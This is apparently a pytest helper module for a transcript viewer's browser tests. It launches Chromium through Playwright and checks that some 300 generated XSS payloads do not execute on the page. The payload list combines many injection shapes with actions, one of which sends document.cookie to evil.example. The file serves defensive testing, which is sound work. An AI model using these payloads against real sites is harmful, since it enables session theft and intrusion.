"""A real browser, where there is one, and transcripts that try to run something in it."""

from __future__ import annotations

import shutil
import time
from collections.abc import Iterator
from contextlib import contextmanager
from itertools import islice, product
from pathlib import Path
from typing import Any

import pytest

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ARGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip
WAIT = 120_000
"""Milliseconds before a wait fails: a busy machine is slow, and no test asserts a time."""

needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium here: the page is not looked at")

_SHAPES = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=data:text/javascript,{}></script>",
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '"><img src=x onerror="{}">', "'><svg onload={}>",
    "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>", "<iframe srcdoc='<script>parent.{}</script>'></iframe>", "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}' autofocus onfocus={}>x</a>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<video><source onerror={}></video>", "<math><mtext><script>{}</script></mtext></math>",
    "<object data='javascript:{}'></object>", "<embed src='javascript:{}'>", "<form action='javascript:{}'><button>x",
    "javascript:{}", "data:text/html,<script>{}</script>", "</pre><script>{}</script>", "</textarea><script>{}</script>",
    "<!--><script>{}</script>-->", "<![CDATA[<script>{}</script>]]>", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "<style>@import 'javascript:{}';</style>", "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href='javascript:{}//'>",
    "<template><script>{}</script></template>", "<noscript><p title='</noscript><script>{}</script>'>",
    "\u202e<script>{}</script>\u202c", "＜script＞{}＜/script＞", "\\u003cscript\\u003e{}\\u003c/script\\u003e",
)  # fmt: skip
_ACTS = (
    "window.pwned=1", "top.pwned=1", "self['pwned']=1", "globalThis.pwned=1", "alert(1)", "(0,eval)('pwned=1')",
    "setTimeout('pwned=1')", "fetch('http://evil.example/'+document.cookie)",
)  # fmt: skip
PAYLOADS = tuple(
    f"x{n} {shape.replace('{}', act).replace('{{', '{').replace('}}', '}')}"
    for n, (act, shape) in enumerate(islice(product(_ACTS, _SHAPES), 300))
)
"""Three hundred, each with a number of its own by which it is found on the page."""


_WITNESS = """
window.stopped = [];
document.addEventListener("securitypolicyviolation", (one) => stopped.push(`policy ${one.violatedDirective}`));
"""


class WatchedPage:
    """A page, and all that it should not have done."""

    def __init__(self, page: Any, base: str) -> None:
        self.page, self.done = page, list[str]()
        page.on("dialog", lambda dialog: (self.done.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.done.append(f"error {error}"))
        page.on("console", lambda said: said.type == "error" and self.done.append(f"console {said.text}"))
        page.on("popup", lambda other: self.done.append(f"popup {other.url}"))
        page.context.on(
            "request", lambda asked: asked.url.startswith(f"{base}/") or self.done.append(f"request {asked.url}")
        )
        page.add_init_script(_WITNESS)

    def misdeeds(self) -> list[str]:
        """Scripts that ran, dialogs, errors, requests to elsewhere, and whatever the page's own policy had to stop."""
        pwned, stopped = self.page.evaluate("[window.pwned, window.stopped]")
        return [*self.done, *stopped, *(["a payload ran"] if pwned else [])]


def until(page: Any, holds: str) -> None:
    """Wait until an expression is true. Playwright's own way needs `eval`, which the page forbids."""
    end = time.monotonic() + WAIT / 1000
    while not page.evaluate(holds):
        assert time.monotonic() < end, f"never came true: {holds}"
        page.wait_for_timeout(50)


@contextmanager
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS, timeout=WAIT)
        try:
            yield found
        finally:
            found.close()


@contextmanager
def looking(found: Any, address: str, *, width: int = 1280, height: int = 800, **more: Any) -> Iterator[WatchedPage]:
    context = found.new_context(viewport={"width": width, "height": height}, **more)
    context.set_default_timeout(WAIT)
    page = context.new_page()
    watched = WatchedPage(page, address.partition("#")[0].rstrip("/"))
    page.goto(address)
    page.wait_for_selector(".session")
    try:
        yield watched
    finally:
        context.close()


@contextmanager
def reading(found: Any, file: Path) -> Iterator[WatchedPage]:
    """A file from the disk, all of it."""
    context = found.new_context()
    context.set_default_timeout(WAIT)
    page = context.new_page()
    watched = WatchedPage(page, file.parent.as_uri())
    page.goto(file.as_uri(), wait_until="load")
    try:
        yield watched
    finally:
        context.close()


def opened(page: Any, name: str = "nightly") -> None:
    """From the list into a session, by its title or its name."""
    page.locator(".session", has_text=name).or_(page.locator(f'.session[title*="{name}"]')).first.click()
    page.wait_for_selector(".chart canvas")
    page.wait_for_selector(".item:not(.ghost)")
